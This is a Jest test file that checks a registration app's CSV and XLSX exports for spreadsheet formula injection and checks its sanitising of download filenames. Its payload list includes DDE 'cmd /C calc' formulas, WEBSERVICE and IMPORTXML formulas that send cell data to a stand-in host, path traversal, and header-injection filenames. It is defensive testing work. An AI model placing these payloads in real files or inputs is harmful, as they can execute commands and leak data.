import { beforeAll, describe, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { readSheet } from 'read-excel-file/node';
import { registerAllianceEvent } from '../../functions/alliance-events/routes.ts';
import { getAttendanceStatisticsFile } from '../../functions/attendance/routes.ts';
import { exportExpenditureBreakdown } from '../../functions/breakdowns/routes.ts';
import { exportParticipantsCsv, exportParticipantsXlsx } from '../../functions/participant-lists/routes.ts';
import { registerByOffice } from '../../functions/registrations/routes.ts';
import { attachment } from '../../shared/http/attachment.ts';
import type { RouteRow } from '../../shared/http/route.ts';
import { unpacked } from '../documents/reading.ts';
import { as, call, openRegisterOf2016 } from '../support/api.ts';
import { openDoor } from '../support/door.ts';
import { scale } from '../support/scale.ts';
import { aCaller, anEvent, bookedExpense, done, type Sent } from './samples.ts';

/**
 * S6: what people type is text in every file that comes out: no formula, no shifted column, and read again it is what was typed,
 * but for the apostrophe that guards it in CSV.
 */

const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'] as const;
const payloads: readonly string[] = [
  ...SIGNS.map((sign) => `${sign}1+1`),
  ...SIGNS.map((sign) => `${sign}cmd|' /C calc'!A0`),
  ...SIGNS.slice(0, 4).map((sign) => `"${sign}1+1"`),
  ...SIGNS.slice(0, 4).map((sign) => `a\n${sign}1+1`),
  '=HYPERLINK("http://x.example","Rathaus")',
  '=WEBSERVICE("http://x.example/"&A1)',
  '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
  '@SUM(1+9)*cmd|x!A0',
  '-2+3+cmd|x!A0',
  '=DDE("cmd";"/C calc";"x")',
  ';=1+1',
  'a;=1+1',
  ',=1+1',
  'a,=1+1',
  'a\t=1+1',
  '";=1+1;"',
  '"',
  "'=1+1",
  "''",
  'a""b',
];

/** A spreadsheet runs what begins so, blanks in front or not, full-width or not. */
const runs = (cell: string): boolean => /^\s*[=+\-@＝＋－＠]/.test(cell) && !/^-?[\d.]+(?:,\d+)?$/.test(cell);

/** Cells of people in a file: all of them are there, as typed or with one apostrophe, and nothing runs. */
function faultsIn(rows: readonly (readonly string[])[], typed: readonly string[]): string[] {
  const cells = rows.flat();
  const kept = new Set(cells.flatMap((cell) => (cell.startsWith("'") ? [cell, cell.slice(1)] : [cell])));
  const widths = new Set(rows.map(({ length }) => length));
  return [
    ...cells.filter(runs).map((cell) => `runs: ${cell}`),
    ...typed.filter((payload) => !kept.has(payload)).map((payload) => `lost: ${payload}`),
    ...(widths.size === 1 ? [] : [`columns: ${[...widths].join(', ')}`]),
  ];
}

const editor = as('OFFICE_EDITOR');
let eventId: string;
beforeAll(async () => {
  await openRegisterOf2016();
  // still to come, so that no period for keeping its people has run out
  const day = '2099-05-08';
  const body = { ...anEvent('03254', { title: 'Fest' }), dates: { from: day, to: day, startTime: null, endTime: null, wording: null } };
  eventId = (await done(registerAllianceEvent, editor, { body })).id;
  await openDoor(eventId);
  for (const [index, payload] of payloads.entries()) {
    const { id } = await done(registerAllianceEvent, editor, { body: anEvent('03254', { title: payload }) });
    if (index % scale({ short: 4, full: 1 }) === 0) await bookedExpense(id, {}, { text: payload, supplier: payload });
    await done(registerByOffice, editor, {
      params: { eventId },
      body: { ...aCaller, organisation: payload, familyName: `Person ${index}` },
    });
  }
}, 120_000);

const booked = payloads.filter((_, index) => index % scale({ short: 4, full: 1 }) === 0);
const file = async (row: RouteRow, sent: Sent): Promise<Buffer> => {
  const { status, text, headers } = await call(row, editor, sent);
  expect([status, headers['content-disposition']]).toEqual([200, expect.stringMatching(/^attachment; filename="[a-z0-9.-]+"$/)]);
  return Buffer.from(text, headers['content-type']?.startsWith('text/') ? 'utf8' : 'latin1');
};
const rowsOf = (content: Buffer, delimiter: string): string[][] =>
  parse(content.toString('utf8').replace(/^\ufeff/, ''), { delimiter, relax_column_count: true }) as string[][];

test('S6: there are 40 payloads, and a file that writes them bare is caught', () => {
  expect(payloads.length).toBe(40);
  const bare = payloads.map((payload) => [payload]);
  expect(faultsIn(bare, payloads).filter((fault) => fault.startsWith('runs'))).not.toHaveLength(0);
  expect(faultsIn([['a'], ['a', 'b']], ['x'])).toEqual(['lost: x', 'columns: 1, 2']);
});

describe('S6: CSV', () => {
  const window = { asOf: '2026-01-01' };
  test.each<readonly [string, RouteRow, Sent, string, () => readonly string[]]>([
    ['expenditure', exportExpenditureBreakdown, { query: { groupBy: 'event', format: 'csv' } }, ';', () => booked],
    ['expenditure for programs', exportExpenditureBreakdown, { query: { groupBy: 'event', format: 'csv-machine' } }, ',', () => booked],
    ['attendance', getAttendanceStatisticsFile, { query: { groupBy: 'event', format: 'csv', ...window } }, ';', () => payloads],
    ['participants', exportParticipantsCsv, {}, ';', () => payloads],
  ])('%s', async (name, row, sent, delimiter, typed) => {
    const about = name === 'participants' ? { params: { eventId } } : sent;
    const rows = rowsOf(await file(row, about), delimiter);
    expect(faultsIn(rows, typed())).toEqual([]);
  });
});

describe('S6: XLSX', () => {
  test.each<readonly [string, RouteRow, Sent, () => readonly string[]]>([
    ['expenditure', exportExpenditureBreakdown, { query: { groupBy: 'event', format: 'xlsx' } }, () => booked],
    ['attendance', getAttendanceStatisticsFile, { query: { groupBy: 'event', format: 'xlsx' } }, () => payloads],
    ['participants', exportParticipantsXlsx, {}, () => payloads],
  ])('%s: every cell of people is text, as it was typed', async (name, row, sent, typed) => {
    const content = await file(row, name === 'participants' ? { params: { eventId } } : sent);
    const parts = Object.entries(unpacked(content)).filter(([part]) => part.startsWith('xl/'));
    for (const [, xml] of parts) expect(xml).not.toMatch(/<f[\s>/]|<ddeLink|<externalLink|<hyperlink/);
    const cells = new Set((await readSheet(content, { trim: false })).flat().map(String));
    expect(typed().filter((payload) => !cells.has(payload))).toEqual([]);
  });

  test('amounts stay numbers', async () => {
    const content = await file(exportExpenditureBreakdown, { query: { groupBy: 'event', format: 'xlsx' } });
    expect((await readSheet(content)).flat().filter((cell) => typeof cell === 'number').length).toBeGreaterThan(booked.length);
  });
});

describe('S6: names of files', () => {
  /** As a browser reads the header (RFC 6266): the extended name goes first. */
  const readName = (header: string): string => {
    const extended = /; filename\*=UTF-8''([!#$&+.^_`|\w%-]+)$/.exec(header)?.[1];
    return extended === undefined ? (/^attachment; filename="([\x20-\x7e]*)"$/.exec(header)?.[1] ?? '') : decodeURIComponent(extended);
  };

  test.each([
    ['bericht.pdf', 'bericht.pdf'],
    ['../../etc/passwd', 'etc_passwd'],
    ['C:\\x\\y.csv', 'C__x_y.csv'],
    ['a\r\nSet-Cookie: x=1.csv', 'a__Set-Cookie_ x=1.csv'],
    ['a"; filename="b.exe', 'a_; filename=_b.exe'],
    ['liste\u202efdp.exe', 'liste_fdp.exe'],
    ['Übersicht für Köroğlu.pdf', 'Übersicht für Köroğlu.pdf'],
    ["O'Neill (1)*.csv", "O'Neill (1)_.csv"],
    ['.htaccess', 'htaccess'],
    ['\ud800.pdf', '\ufffd.pdf'],
    ['', 'datei'],
  ])('%j is offered as %j', (wished, name) => {
    const header = attachment(wished);
    expect(header).toMatch(/^[\x20-\x7e]+$/);
    expect(readName(header)).toBe(name);
    expect(new Headers({ 'content-disposition': header }).get('content-disposition')).toBe(header);
  });

  test('300 characters become 120, the ending stays', () => {
    const name = readName(attachment(`${'ü'.repeat(300)}.xlsx`));
    expect([[...name].length, name.endsWith('ü.xlsx')]).toEqual([120, true]);
  });
});
